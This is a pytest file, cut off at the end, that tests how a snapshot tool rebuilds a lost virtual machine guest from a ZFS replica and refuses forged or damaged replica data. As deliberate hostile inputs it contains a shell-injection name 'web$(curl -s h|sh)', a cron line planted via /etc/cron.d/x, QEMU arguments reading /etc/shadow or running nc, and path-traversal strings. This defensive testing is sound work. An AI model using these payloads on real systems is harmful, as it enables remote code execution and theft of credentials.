"""A guest is lost with its datasets and bundles, and comes back from a replica."""

import hashlib
import json
import shlex
import shutil
from dataclasses import replace

import pytest
from fakes import manifests
from fakes.hooks import failing, failing_once
from fakes.rebuild_source import FakeLocal, FakeSource
from fakes.replica import FakeReplica

from snaporch import default_paths
from snaporch.bundle.manifest import (
    MANIFEST_NAME,
    PagesEntry,
    Role,
    manifest_bytes,
    parse_manifest,
)
from snaporch.bundle.store import MARKER
from snaporch.catalog.records import all_records, by_dataset
from snaporch.config import Config
from snaporch.errors import BusyError, NotFoundError, RefusedError, SnaporchError, UnavailableError
from snaporch.interrupt import Interrupt
from snaporch.locks import REPLICATION, domain_lock
from snaporch.model import DomainState, Level
from snaporch.rebuild.bring_back import bring_back, guest_lock, policies_of, set_policies
from snaporch.rebuild.definitions import definitions, host_paths, other_host_values
from snaporch.rebuild.fetch_bundle import check_files, runs_to_fetch
from snaporch.rebuild.local_checks import AlreadyHereError, check_others
from snaporch.rebuild.plan import _mountpoint, bundled_guests, find_domains, find_uuid
from snaporch.rebuild.plan_guest import plan_guest
from snaporch.rebuild.stages import Stage, set_stage
from snaporch.replication.interface import ReplicaError
from snaporch.replication.replicate import replicate
from snaporch.restore.confirm_and_restore import RestoreRequest, restore_under_lock
from snaporch.restore.foreign_definition import came_from_elsewhere
from snaporch.snapshot.request import SnapshotRequest
from snaporch.snapshot.run import take_snapshot
from snaporch.zfs import PREFIX

DATASETS = ("flash/web", "tank/web")
UUID = "4b1d2f0e-0000-4000-8000-00000000000f"


class Loss:
    """A guest with two disks and the snapshots s1 and s2, which are on a replica."""

    def __init__(self, world):
        self.world = world
        world.pool.create("tank"), world.pool.create("flash")
        self.uuid = world.add_guest(disks={"vda": "tank/web", "vdb": "flash/web"}).uuid
        self.context = world.context
        nas = {"host": "nas", "dataset": "backup/kvm", "bundles": "/backup/nas"}
        document = self.context.config.model_dump() | {"replica": {"nas": nas}}
        self.context.config = Config.model_validate(document)
        self.replica = FakeReplica(world.pool, world.root / "there")
        self.replica.create()
        self.source = FakeSource(world.pool, self.replica, world.hooks)
        self.local = FakeLocal(world.pool, world.hooks)
        self.taken = {}

    def take(self, name):
        domain = self.world.hypervisor.domain("web")
        self.taken[name] = take_snapshot(self.context, domain, SnapshotRequest(name))
        return self.taken[name]

    def ship(self):
        replicate(self.context, self.records(), "nas", self.replica)

    def records(self):
        return all_records(self.context.store, self.world.pool.snapshots())

    def lose(self):
        self.source.lose(*DATASETS)
        shutil.rmtree(self.world.paths.bundles)
        self.world.hypervisor.destroy(self.uuid)
        self.world.hypervisor.undefine(self.uuid)
        for dataset in DATASETS:
            self.local.inherited[dataset] = ""
        self.world.hooks.log.clear()

    def plan(self, words="web", *, history=False):
        copies = by_dataset(self.source.snapshots())
        return plan_guest(self.context, self.source, self.local, copies, words, history=history)

    def rebuild(self, words="web", *, history=False):
        plan = self.plan(words, history=history)
        copies = by_dataset(self.source.snapshots())
        runs = runs_to_fetch(self.source, copies, plan, history=history)
        bring_back(self.context, self.source, self.local, plan, runs)
        return plan

    def part(self, name, kind):
        """A file of a bundle on the replica."""
        return self.replica.root / self.uuid / self.taken[name].run / kind


@pytest.fixture
def loss(world):
    made = Loss(world)
    made.take("s1"), made.take("s2")
    made.ship()
    made.lose()
    return made


def test_the_newest_snapshot_comes_back_with_its_bundle_and_properties(loss):
    plan = loss.rebuild()
    assert plan.thing == "web@s2"
    assert sorted(loss.world.pool.names()) == ["flash/web@s2", "tank/web@s2"]
    (record,) = loss.records()
    assert (record.snapshot, str(record.level), str(record.state)) == ("s2", "ram", "complete")
    assert record.run == loss.taken["s2"].run
    properties = [each.properties for each in loss.world.pool.snapshots(["tank/web"])]
    assert [(each["copy"], each["domain"]) for each in properties] == [("nas", "web")]
    store = loss.world.paths.bundles
    assert not (store / loss.uuid / record.run / "copy.json").exists()
    assert [path.name for path in (store / loss.uuid).iterdir()] == [record.run]


@pytest.mark.parametrize("history", [False, True])
def test_what_the_replica_has_no_marks_of_is_marked_as_a_copy(loss, history):
    """Else its images and definition would count as this host's, and not be checked."""
    there = loss.source.snapshots()
    loss.source.snapshots = lambda: [replace(each, properties={}) for each in there]
    loss.rebuild("web@s2", history=history)
    snapshots = loss.world.pool.snapshots()
    assert len(snapshots) == (4 if history else 2)
    assert [dict(each.properties) for each in snapshots] == [{"copy": "nas"}] * len(snapshots)
    assert all(came_from_elsewhere([each]) for each in snapshots)


def test_nothing_is_mounted_before_all_is_here(loss):
    loss.rebuild()
    acts = [line.split()[0] for line in map(str, loss.world.hooks.log)]
    of_rebuild = [act for act in acts if act.startswith(("source.", "local.mount"))]
    assert of_rebuild == ["source.receive"] * 2 + ["source.fetch"] + ["local.mount"] * 2


def test_the_history_comes_in_order_with_all_bundles(loss):
    loss.rebuild(history=True)
    names = ["flash/web@s1", "flash/web@s2", "tank/web@s1", "tank/web@s2"]
    assert sorted(loss.world.pool.names()) == names
    assert [str(each.level) for each in loss.records()] == ["ram", "ram"]


@pytest.mark.parametrize("words", ["web@s1", "UUID@s1"])
def test_a_named_snapshot_comes_back(loss, words):
    plan = loss.rebuild(words.replace("UUID", loss.uuid))
    assert plan.name == "s1"
    assert [each.snapshot for each in loss.records()] == ["s1"]


@pytest.mark.parametrize(
    ("words", "error", "match"),
    [
        ("mail", NotFoundError, "has no snapshot of it, but of: web"),
        ("web@s3", NotFoundError, "has no bundle of @s3"),
    ],
)
def test_what_the_replica_does_not_have_is_not_found(loss, words, error, match):
    with pytest.raises(error, match=match):
        loss.plan(words)


def test_a_replica_without_any_guest_is_to_be_checked(loss):
    with pytest.raises(NotFoundError, match="has no snapshot of a guest; check host and dataset"):
        find_uuid(loss.source, [], "web", {})


def test_two_guests_of_one_name_are_named_by_their_uuids(loss):
    other = "4b1d2f0e-0000-4000-8000-00000000000f"
    (newest,) = loss.replica.snapshots(["tank/web"])[-1:]
    stranger = replace(newest, dataset="tank/old", properties={**newest.properties, "uuid": other})
    loss.replica.put([stranger])
    with pytest.raises(RefusedError, match="2 guests of this name") as raised:
        loss.plan()
    assert loss.uuid in raised.value.step
    assert loss.plan(loss.uuid).name == "s2"


def damage_manifest(loss):
    loss.part("s2", MANIFEST_NAME).write_text("{}")


def drop_snapshot(loss):
    loss.replica.drop("tank/web@s2")


def drop_part(loss):
    next(path for path in loss.part("s2", "").iterdir() if "ram" in path.name).unlink()


def shorten_part(loss):
    path = next(path for path in loss.part("s2", "").iterdir() if "ram" in path.name)
    path.write_bytes(path.read_bytes()[:-1])


def drop_record(loss):
    loss.part("s2", "copy.json").unlink()


def name_another_guest(loss):
    change_manifest(loss, uuid="4b1d2f0e-0000-4000-8000-00000000000f")


def name_an_option(loss):
    """As a dataset, which ``zfs receive`` would take for options."""
    path = loss.part("s2", MANIFEST_NAME)
    manifest = parse_manifest(path.read_bytes(), "s2")
    entry = manifest.snapshots[0]
    (copy,) = [e for e in loss.replica.snapshots([entry.dataset]) if e.guid == entry.guid]
    loss.replica.put([replace(copy, dataset="-F")])
    bad = entry.model_copy(update={"dataset": "-F"})
    change_manifest(loss, snapshots=(bad, *manifest.snapshots[1:]))


def change_manifest(loss, **changes):
    path = loss.part("s2", MANIFEST_NAME)
    manifest = parse_manifest(path.read_bytes(), "s2")
    path.write_bytes(manifest_bytes(manifest.model_copy(update=changes)))


LACKING = [
    damage_manifest,
    drop_snapshot,
    drop_part,
    shorten_part,
    drop_record,
    name_another_guest,
    name_an_option,
]


@pytest.mark.parametrize("harm", LACKING)
def test_of_what_the_replica_lacks_a_part_an_older_one_is_chosen(loss, harm):
    assert loss.plan().notes(history=False) == ()
    harm(loss)
    (note,) = loss.plan().notes(history=False)
    assert note.startswith("a newer snapshot is not taken: ")
    assert "@s2: " in note or f"the manifest of {loss.taken['s2'].run} is damaged" in note
    assert loss.rebuild().name == "s1"
    assert [str(each.level) for each in loss.records()] == ["ram"]


@pytest.mark.parametrize("harm", LACKING)
def test_a_named_snapshot_that_lacks_a_part_is_refused(loss, harm):
    harm(loss)
    with pytest.raises(UnavailableError, match="does not have all of"):
        loss.plan("web@s2")


def test_older_snapshots_without_their_bundles_are_noted(loss):
    plan = loss.plan()
    (first, *others) = plan.incoming
    more = replace(plan, incoming=(replace(first, snapshots=first.snapshots * 3), *others))
    (note,) = more.notes(history=False)
    assert note.startswith("2 older snapshots come without their bundles; --history brings")
    assert more.notes(history=True) == plan.notes(history=False) == ()


def test_a_torn_snapshot_is_not_chosen(loss):
    change_manifest(loss, level=Level.TORN)
    assert loss.plan().name == "s1"


def test_a_forged_snapshot_with_the_guid_of_the_true_one_does_not_come(loss):
    copies = loss.replica.snapshots(["tank/web"])
    forged = replace(copies[-1], name="evil", createtxg=copies[-1].createtxg + 9)
    loss.replica.put([*copies, forged])
    for words in ("web", "web@s2"):
        names = [each.full_name for part in loss.plan(words).incoming for each in part.snapshots]
        assert names == ["flash:web@s2", "tank:web@s2"]


PAGES = "tank/ram/web"


@pytest.fixture
def paged(loss):
    """The RAM of s2 has pages."""
    loss.world.pool.create(PAGES)
    loss.world.pool.snapshot([f"{PAGES}@s2"], {})
    (taken,) = loss.world.pool.snapshots([PAGES])
    loss.replica.put([replace(taken, properties={"ram": f"{loss.uuid}/{loss.taken['s2'].run}"})])
    loss.source.lose(PAGES)
    path = loss.part("s2", MANIFEST_NAME)
    manifest = parse_manifest(path.read_bytes(), "s2")
    entry = PagesEntry(
        dataset=PAGES, name="s2", guid=taken.guid, createtxg=1, bytes=1, sha256="0" * 64, split=1,
        stored_bytes=0,
    )  # fmt: skip
    parts = [
        each.model_copy(update={"pages": entry}) if each.role is Role.RAM else each
        for each in manifest.parts
    ]
    change_manifest(loss, parts=tuple(parts))
    return loss


def test_the_pages_of_its_ram_come_too(paged):
    paged.rebuild()
    assert f"{PAGES}@s2" in paged.world.pool.names()
    assert paged.world.pool.local_properties([f"{PREFIX}ram"]) == {
        PAGES: {f"{PREFIX}ram": paged.uuid}
    }
    (snapshot,) = paged.world.pool.snapshots([PAGES])
    assert snapshot.properties["ram"] == f"{paged.uuid}/{paged.taken['s2'].run}"


def test_without_the_pages_of_its_ram_a_snapshot_is_not_chosen(paged):
    paged.replica.drop(f"{PAGES}@s2")
    assert paged.plan().name == "s1"


def test_what_was_written_after_it_came_back_is_not_lost(loss):
    loss.rebuild()
    loss.world.pool.snapshot(["tank/web@autosnap"], {})
    loss.world.hooks.log.clear()
    with pytest.raises(RefusedError, match="tank/web: exists on this host"):
        loss.plan()


@pytest.mark.parametrize("is_lost", [(), ("flash/web",)])
def test_a_guest_that_was_not_lost_is_left_alone(kept, is_lost):
    """Only off, and written to: a restore would discard that."""
    kept.source.lose(*is_lost)
    before = kept.world.pool.names()
    with pytest.raises(RefusedError, match="exists on this host"):
        kept.plan()
    assert kept.world.pool.names() == before


@pytest.fixture
def kept(world):
    made = Loss(world)
    made.take("s1"), made.take("s2")
    made.ship()
    made.world.hypervisor.destroy(made.uuid)
    return made


def test_a_guest_that_came_back_is_not_brought_back_again(loss):
    loss.rebuild()
    domain = loss.world.add_guest(
        disks={"vda": "tank/web", "vdb": "flash/web"}, state=DomainState.OFF
    )
    assert domain.uuid == loss.uuid
    with pytest.raises(AlreadyHereError) as raised:
        loss.plan()
    assert raised.value.step == "snaporch restore web@s2"


def test_a_guest_that_lost_a_disk_before_it_was_finished_is_not_called_complete(loss):
    plan = loss.rebuild()
    loss.world.add_guest(disks={"vda": "tank/web", "vdb": "flash/web"}, state=DomainState.OFF)
    set_stage(loss.context, plan, Stage.FINISH)
    with pytest.raises(AlreadyHereError):
        loss.plan()
    loss.world.pool.take_out("flash/web")
    assert loss.plan().incoming == plan.incoming


def test_a_snapshot_of_another_run_than_was_shown_is_not_restored(loss):
    plan = loss.rebuild()
    request = RestoreRequest(f"{loss.uuid}@{plan.name}")
    loss.world.hooks.log.clear()
    with pytest.raises(RefusedError, match=f"is of run {plan.manifest.run}, and not of other"):
        restore_under_lock(loss.context, request, "other", lambda: None)
    assert loss.world.hooks.log == []


def test_marks_that_are_here_stay(loss):
    loss.rebuild()
    loss.world.pool.set_properties(["tank/web@s2"], {f"{PREFIX}note": "mine"})
    copies = loss.replica.snapshots(["tank/web"])
    loss.replica.put(
        [replace(each, properties={**each.properties, "note": "theirs"}) for each in copies]
    )
    loss.rebuild()
    (snapshot,) = loss.world.pool.snapshots(["tank/web"])
    assert snapshot.properties["note"] == "mine"


def test_a_dataset_that_other_guests_use_is_refused(loss):
    copies = loss.replica.snapshots(["tank/web"])
    stranger = {**copies[0].properties, "uuid": UUID, "domain": "mail", "bundle": f"{UUID}/x"}
    loss.replica.put([replace(copies[0], properties=stranger), copies[1]])
    with pytest.raises(RefusedError, match=r"has snapshots of other guests, too \(mail\)"):
        loss.plan()


def rewrite(path, **changes):
    """Change fields of a manifest."""
    manifest = parse_manifest(path.read_bytes(), "x")
    path.write_bytes(manifest_bytes(manifest.model_copy(update=changes)))
    return path


def shared(loss, name="db"):
    """One snapshot has the disks of two guests, and the marks of one: ``web``."""
    run = loss.taken["s2"].run
    other = loss.replica.root / UUID / run
    shutil.copytree(loss.replica.root / loss.uuid / run, other)
    return rewrite(other / MANIFEST_NAME, uuid=UUID, domain=name)


@pytest.mark.parametrize("words", ["db", UUID, f"{UUID}@s2", "web", "web@s2"])
def test_a_guest_whose_snapshots_have_the_marks_of_another_is_known_and_refused(loss, words):
    """Neither comes alone: the data of both is in one dataset."""
    shared(loss)
    other = "db" if words.startswith("web") else "web"
    with pytest.raises(RefusedError, match=f"other guests, too .{other}.*By hand"):
        loss.plan(words)
    assert not loss.world.pool.names()


@pytest.mark.parametrize("text", ["damaged", None])
def test_the_datasets_of_another_guest_are_known_from_its_older_bundle(loss, text):
    """If its newest one is damaged, or names no snapshot that the replica has."""
    manifest = shared(loss)
    newest = manifest.parent.parent / f"9{manifest.parent.name[1:]}"
    shutil.copytree(manifest.parent, newest)
    gone = rewrite(newest / MANIFEST_NAME, run=newest.name, snapshots=())
    if text:
        gone.write_text(text)
    assert bundled_guests(loss.source, by_dataset(loss.source.snapshots()))[UUID].name == "db"
    with pytest.raises(RefusedError, match=r"other guests, too .db"):
        loss.plan("web")


def test_a_guest_that_no_mark_names_is_among_all(loss):
    manifest = shared(loss)
    snapshots = loss.source.snapshots()

    def known():
        guests = bundled_guests(loss.source, by_dataset(snapshots))
        return find_domains(snapshots, guests)

    assert known() == {loss.uuid: "web", UUID: "db"}
    with pytest.raises(NotFoundError, match="no snapshot of it, but of: db, web"):
        loss.plan("mail")
    manifest.write_text("damaged")
    assert known() == {loss.uuid: "web", UUID: UUID}


def test_a_former_guest_of_which_only_the_bundle_is_left_is_in_nobodys_way(loss):
    """Its dataset was destroyed, and made again for another guest of the same name."""
    path = shared(loss, "web")
    entries = parse_manifest(path.read_bytes(), "x").snapshots
    gone = tuple(each.model_copy(update={"guid": each.guid + 1}) for each in entries)
    rewrite(path, snapshots=gone)
    assert loss.plan().thing == "web@s2"


@pytest.mark.parametrize("name", ["web\x1b[2J", "--all", "", " web"])
def test_a_bundle_with_a_name_that_no_guest_has_is_damaged(loss, name):
    for snapshot in ("s1", "s2"):
        rewrite(loss.part(snapshot, MANIFEST_NAME), domain=name)
    with pytest.raises(UnavailableError, match=r"manifest of .* is damaged"):
        loss.plan(loss.uuid)


def test_a_shell_reads_nothing_of_a_name_from_the_replica(loss):
    name = "web$(curl -s h|sh)"
    rewrite(loss.part("s2", MANIFEST_NAME), domain=name)
    loss.world.add_guest(disks={})
    with pytest.raises(AlreadyHereError) as raised:
        loss.plan(f"{loss.uuid}@s2")
    step = raised.value.step.partition(": ")[2]
    assert shlex.split(step) == ["snaporch", "restore", f"{name}@s2"]


def test_a_dataset_below_one_that_the_replica_has_waits_for_it(loss):
    plan = loss.plan()
    inner = replace(plan.incoming[1], dataset="tank/vm/web")
    changed = replace(plan, incoming=(plan.incoming[0], inner))
    copies = by_dataset(loss.source.snapshots())
    check_others(changed, copies, {"tank"}, {})
    copies["tank:vm"] = copies["tank:web"]
    with pytest.raises(RefusedError, match="is below tank/vm"):
        check_others(changed, copies, {"tank"}, {})
    check_others(changed, copies, {"tank", "tank/vm"}, {})


def test_a_snapshot_that_was_marked_torn_later_is_not_chosen(loss):
    copies = loss.replica.snapshots(["tank/web"])
    torn = replace(copies[1], properties={**copies[1].properties, "torn": "yes"})
    loss.replica.put([copies[0], torn])
    assert loss.plan().name == "s1"


@pytest.mark.parametrize("error", [RefusedError("x", "another"), ReplicaError("x", "failed", "no")])
def test_a_token_that_leads_nowhere_can_be_discarded(loss, error):
    loss.local.tokens["flash/web"] = "1-abc-1-def"
    loss.world.hooks.at["source.receive"] = failing(error)
    with pytest.raises(ReplicaError) as raised:
        loss.rebuild()
    assert "zfs receive -A flash/web, and run this command again" in raised.value.step


def test_a_store_that_may_not_be_mounted_is_not_begun_again(loss):
    loss.world.pool.create("tank/mail")
    uuid = loss.world.add_guest("mail").uuid
    properties = {f"{PREFIX}uuid": uuid, f"{PREFIX}bundle": f"{uuid}/r"}
    loss.world.pool.snapshot(["tank/mail@s"], properties)
    with pytest.raises(RefusedError, match="is no bundle store"):
        loss.rebuild()
    assert not any("source." in str(line) for line in loss.world.hooks.log)


def test_a_bundle_that_the_store_has_no_room_for_is_refused(loss):
    parts = parse_manifest(loss.part("s2", MANIFEST_NAME).read_bytes(), "s2").parts
    path = loss.part("s2", parts[0].name)
    with path.open("r+b") as stream:
        stream.truncate(1 << 40)
    change_manifest(loss, parts=(parts[0].model_copy(update={"bytes": 1 << 40}), *parts[1:]))
    with pytest.raises(RefusedError, match="MiB free, and the bundle of web@s2 needs 10"):
        loss.plan()


def test_the_store_is_known_as_one(loss):
    loss.rebuild()
    assert (loss.world.paths.bundles / MARKER).exists()


def test_the_history_ends_with_the_chosen_snapshot(loss):
    loss.rebuild("web@s1", history=True)
    store = loss.world.paths.bundles / loss.uuid
    assert [path.name for path in store.iterdir()] == [loss.taken["s1"].run]


@pytest.mark.parametrize(
    ("source", "inside", "expected"),
    [
        ("/srv/web/disk.img", "disk.img", "/srv/web"),
        ("/srv/web/a/disk.img", "/a/disk.img", "/srv/web"),
        ("/srv/link.img", "disk.img", ""),
        ("/srv/../etc/disk.img", "disk.img", ""),
        ("srv/disk.img", "disk.img", ""),
        ("/dev/zvol/tank/web", None, ""),
    ],
)
def test_where_a_file_system_was_mounted(loss, source, inside, expected):
    manifest = loss.plan().manifest
    disk = manifest.disks[0].model_copy(
        update={"dataset": "tank/web", "source": source, "inside": inside}
    )
    changed = manifest.model_copy(update={"disks": (disk,)})
    assert _mountpoint(changed, "tank/web") == expected


def test_a_policy_with_control_characters_does_not_come_back(loss):
    loss.replica.policies |= {"tank/web": "a\x1bb"}
    set_policies(loss.context, policies_of(loss.source, loss.rebuild()))
    assert loss.world.pool.policies(DATASETS) == {}


def test_a_definition_of_an_impossible_size_is_not_read(loss, monkeypatch):
    plan = loss.plan()
    parts = [each.model_copy(update={"bytes": (1 << 20) + 1}) for each in plan.manifest.parts]
    manifest = plan.manifest.model_copy(update={"parts": tuple(parts)})
    monkeypatch.setattr(FakeSource, "text", None)
    with pytest.raises(RefusedError, match="has 1024 KiB"):
        definitions(loss.source, replace(plan, manifest=manifest))


def test_a_definition_that_is_not_the_manifests_is_not_shown(loss):
    plan = loss.plan()
    path = loss.part("s2", plan.manifest.part(Role.LIVE_XML).name)
    path.write_text(path.read_text().replace("kvm", "xen", 1))
    with pytest.raises(ReplicaError, match="is damaged on replica nas"):
        definitions(loss.source, plan)


def forge_nvram(loss, name):
    """The replica adds a file to a bundle that would be written anywhere."""
    path = loss.part(name, MANIFEST_NAME)
    manifest = parse_manifest(path.read_bytes(), name)
    loss.part(name, "nvram.fd").write_text("* * * * * root evil")
    own = next(each for each in manifest.parts if each.role is Role.LIVE_XML)
    data = loss.part(name, "nvram.fd").read_bytes()
    part = own.model_copy(
        update={
            "name": "nvram.fd",
            "role": Role.NVRAM,
            "source": "/etc/cron.d/x",
            "bytes": len(data),
            "sha256": hashlib.sha256(data).hexdigest(),
        }
    )
    changed = manifest.model_copy(update={"parts": (*manifest.parts, part)})
    path.write_bytes(manifest_bytes(changed))


def test_a_bundle_that_changes_after_it_was_shown_is_not_fetched(loss):
    plan = loss.plan()
    forge_nvram(loss, "s2")
    with pytest.raises(ReplicaError, match="is not the bundle that was checked"):
        bring_back(loss.context, loss.source, loss.local, plan, [plan.manifest.run])
    assert not any("source.fetch" in str(line) for line in loss.world.hooks.log)


def test_a_bundle_that_is_here_and_was_not_shown_is_refused(loss):
    plan = loss.rebuild()
    change_manifest(loss, domain="other")
    with pytest.raises(RefusedError, match="is on this host, and differs from the replica's"):
        loss.rebuild()
    assert loss.world.paths.bundles.joinpath(plan.reference).exists()


def test_an_older_bundle_with_files_anywhere_does_not_come(loss):
    forge_nvram(loss, "s1")
    loss.rebuild(history=True)
    assert any("would be written to /etc/cron.d/x" in note for note in loss.world.heard.notes)
    assert [str(each.level) for each in loss.records()] == ["crash", "ram"]


def test_a_dataset_that_exists_is_refused_before_anything_is_received(loss):
    loss.world.pool.create("tank/web")
    with pytest.raises(RefusedError, match="exists on this host") as raised:
        loss.plan()
    assert "wait for its end" in raised.value.step
    assert raised.value.step.endswith("; zfs rename tank/web tank/web-before")
    assert loss.world.hooks.log == []


def test_a_pool_that_is_missing_is_named(loss):
    loss.world.pool.take_out("flash")
    with pytest.raises(RefusedError, match="this host has no pool"):
        loss.plan()


def test_a_guest_that_runs_here_is_left_alone(loss):
    guest = loss.world.add_guest("other")
    plan = loss.plan()
    renamed = plan.manifest.model_copy(update={"domain": "other"})
    with pytest.raises(RefusedError, match="another guest of this host"):
        bring_back(loss.context, loss.source, loss.local, replace(plan, manifest=renamed), [])
    running = plan.manifest.model_copy(update={"uuid": guest.uuid})
    with pytest.raises(RefusedError, match="runs on this host"):
        bring_back(loss.context, loss.source, loss.local, replace(plan, manifest=running), [])
    assert loss.world.hooks.log == []


@pytest.mark.parametrize("name", [REPLICATION, "web"])
def test_it_does_not_run_beside_others(loss, name):
    runtime = default_paths.LOCKS if name == "web" else loss.world.paths.runtime
    uuid = loss.uuid if name == "web" else name
    plan = loss.plan()
    with (
        domain_lock(runtime, name, uuid, "work", wait=0, interrupt=Interrupt()),
        pytest.raises(BusyError),
        guest_lock(loss.context, plan),
    ):
        bring_back(loss.context, loss.source, loss.local, plan, [])


@pytest.mark.parametrize("act", ["source.receive", "source.fetch", "local.mount"])
def test_what_was_interrupted_goes_on(loss, act):
    loss.world.hooks.at[act] = failing_once(ReplicaError("nas", "the line was cut"))
    history = act != "source.fetch"  # of the older bundles a failure is a note
    with pytest.raises(ReplicaError):
        loss.rebuild(history=history)
    loss.rebuild(history=history)
    assert [str(each.level) for each in loss.records()] == ["ram", "ram"][not history :]


def cut_at(loss, name):
    """A rebuild with the history is interrupted before a snapshot of tank/web is received."""
    with pytest.MonkeyPatch.context() as patch:
        receive = loss.source.receive

        def cut(snapshot, *words, **more):
            if snapshot.full_name == f"tank:web@{name}":
                raise ReplicaError("nas", "the line was cut")
            receive(snapshot, *words, **more)

        patch.setattr(loss.source, "receive", cut)
        with pytest.raises(ReplicaError, match="was cut"):
            loss.rebuild(history=True)


@pytest.fixture
def three(world):
    made = Loss(world)
    made.take("s1"), made.take("s2"), made.take("s3")
    made.ship()
    made.lose()
    return made


def test_what_was_interrupted_goes_on_although_the_replica_pruned_what_is_here(three):
    cut_at(three, "s3")
    for dataset in DATASETS:
        three.replica.drop(f"{dataset}@s1")
    three.rebuild(history=True)
    for dataset in DATASETS:
        names = [each.name for each in three.world.pool.snapshots([dataset])]
        assert names == ["s1", "s2", "s3"]


def test_what_came_back_and_was_pruned_there_is_still_to_be_restored(three):
    three.rebuild(history=True)
    for dataset in DATASETS:
        three.replica.drop(f"{dataset}@s2")
    before = three.world.pool.names()
    three.rebuild(history=True)
    assert three.world.pool.names() == before


def test_a_replica_that_pruned_the_newest_that_is_here_is_named(three):
    cut_at(three, "s2")
    three.replica.drop("tank/web@s1")
    before = three.world.pool.names()
    with pytest.raises(RefusedError, match="its newest snapshot, @s1, is none of those") as raised:
        three.plan(history=True)
    assert raised.value.step == (
        "to begin again: zfs set canmount=noauto tank/web; zfs unmount tank/web; "
        "zfs rename tank/web tank/web-before"
    )
    assert three.world.pool.names() == before


def test_what_no_rebuild_left_must_be_what_the_replica_has(three):
    plan = three.rebuild(history=True)
    set_stage(three.context, plan, None)
    for dataset in DATASETS:
        three.replica.drop(f"{dataset}@s1")
    with pytest.raises(RefusedError, match="exists on this host"):
        three.plan(history=True)


def test_a_part_of_a_stream_is_continued_by_its_token(loss):
    loss.local.tokens["flash/web"] = "1-abc-1-def"
    loss.world.pool.create("flash/web")
    loss.world.pool.take_out("flash/web")
    plan = loss.plan()
    bring_back(loss.context, loss.source, loss.local, plan, [])
    log = [str(each) for each in loss.world.hooks.log]
    assert any("1-abc-1-def" in line for line in log)


def test_what_else_arrived_is_not_called_the_snapshot(loss, monkeypatch):
    monkeypatch.setattr(FakeSource, "receive", lambda *_words, **_more: None)
    with pytest.raises(ReplicaError, match="did not arrive"):
        loss.rebuild()
    assert loss.records() == []


def test_an_encrypted_copy_comes_raw(loss):
    loss.source.ciphers = {"tank:web"}
    loss.rebuild()
    log = [str(each) for each in loss.world.hooks.log if "source.receive" in str(each)]
    assert ["raw" in line for line in log] == [False, True]


@pytest.mark.parametrize(
    ("key", "value"), [("level", "best"), ("bundle", "../../etc"), ("domain", "a\nb")]
)
def test_impossible_properties_do_not_come(loss, key, value):
    found = loss.replica.snapshots(["tank/web"])
    loss.replica.put([replace(each, properties={**each.properties, key: value}) for each in found])
    loss.rebuild("web@s2") if key != "domain" else loss.rebuild(f"{loss.uuid}@s2")
    (snapshot,) = loss.world.pool.snapshots(["tank/web"])
    assert key not in snapshot.properties


def test_the_policy_of_a_dataset_comes_back(loss):
    loss.replica.policies |= {"tank/web": "hourly", "flash/web": "old"}
    plan = loss.rebuild()
    assert loss.world.pool.policies(DATASETS) == {}
    loss.world.pool.set_properties(["flash/web"], {f"{PREFIX}policy": "own"})
    set_policies(loss.context, policies_of(loss.source, plan))
    assert loss.world.pool.policies(DATASETS) == {"tank/web": "hourly", "flash/web": "own"}


def test_a_bundle_that_is_damaged_there_is_fetched_twice_and_refused(loss):
    part = next(path for path in loss.part("s2", "").iterdir() if "ram" in path.name)
    data = part.read_bytes()
    part.write_bytes(bytes([data[0] ^ 1]) + data[1:])
    with pytest.raises(ReplicaError, match="is damaged on the replica"):
        loss.rebuild()
    assert sum("source.fetch" in str(each) for each in loss.world.hooks.log) == 2
    assert not (loss.world.paths.bundles / loss.uuid / loss.taken["s2"].run).exists()


def test_an_older_bundle_that_is_damaged_is_a_note(loss):
    part = next(path for path in loss.part("s1", "").iterdir() if "ram" in path.name)
    part.write_bytes(bytes(part.stat().st_size))
    loss.rebuild(history=True)
    assert any("did not come back" in note for note in loss.world.heard.notes)
    assert [str(each.level) for each in loss.records()] == ["crash", "ram"]


def test_the_paths_of_its_definition_are_known_before_it_comes(loss):
    xml, _ = definitions(loss.source, loss.plan())
    assert "<domain" in xml
    assert [path for path in host_paths(xml) if path.endswith((".img", ".qcow2", "/web"))]
    hostile = (
        "<domain><resource><partition>/machine</partition></resource>"
        "<os><nvram>/etc/x</nvram></os><hostdev dev='/dev/sda' n='a/b'/></domain>"
    )
    assert host_paths(hostile) == ["/dev/sda", "/etc/x"]
    qemu = "http://libvirt.org/schemas/domain/qemu/1.0"
    hostile = (
        f"<domain xmlns:q='{qemu}'><q:commandline><q:arg value='-drive'/>"
        "<q:arg value='file=/etc/shadow'/></q:commandline></domain>"
    )
    assert host_paths(hostile) == ["file=/etc/shadow"]


QEMU = "http://libvirt.org/schemas/domain/qemu/1.0"
TAKES = {
    f"<q:commandline xmlns:q='{QEMU}'><q:arg value='-incoming'/><q:arg value='exec:nc host 99'/>"
    "</q:commandline>": {"<arg> value=-incoming", "<arg> value=exec:nc host 99"},
    "<seclabel type='static' model='dac' relabel='no'><label>+0:+0</label></seclabel>": {
        "<label> +0:+0",
        "<seclabel> model=dac",
        "<seclabel> relabel=no",
        "<seclabel> type=static",
    },
    "<devices><hostdev mode='subsystem' type='pci'><source><address domain='0x0000' bus='0x03'/>"
    "</source></hostdev></devices>": {"<address> bus=0x03", "<address> domain=0x0000"},
    "<devices><filesystem><source dir='.'/></filesystem></devices>": {"<source> dir=."},
    "<devices><disk type='network'><source protocol='rbd' name='x'><host name='h'/></source></disk>"
    "</devices>": {"<source> protocol=rbd", "<source> name=x", "<host> name=h"},
}


@pytest.mark.parametrize("part", TAKES)
def test_what_else_its_definition_takes_of_the_host_is_known_before(part):
    """A forged definition needs no path: QEMU's arguments can name a program."""
    assert set(other_host_values(f"<domain>{part}</domain>")) == TAKES[part]


@pytest.mark.parametrize("kind", ["domain.live.xml", "domain.xml"])
@pytest.mark.parametrize("what", ["uuid", "name"])
def test_a_definition_of_another_guest_is_refused_before_anything_comes(loss, kind, what):
    path = loss.part("s2", kind)
    old, new = {"uuid": (loss.uuid, UUID), "name": ("<name>web<", "<name>victim<")}[what]
    assert old in path.read_text()
    path.write_text(path.read_text().replace(old, new))
    manifests.with_sums(path.parent)
    plan = loss.plan()
    with pytest.raises(RefusedError, match=f"of another guest: .*{UUID if what == 'uuid' else ''}"):
        definitions(loss.source, plan)


NVRAM = "/var/lib/libvirt/qemu/nvram"
ELSEWHERE = [
    "/etc/cron.d/x",
    "/var/lib/libvirt/images/x",
    "relative",
    None,
    f"{NVRAM}/../nvram/victim_VARS.fd",
    f"{NVRAM}//victim_VARS.fd",
    f"{NVRAM}/a\0b",
]


@pytest.mark.parametrize("place", ELSEWHERE)
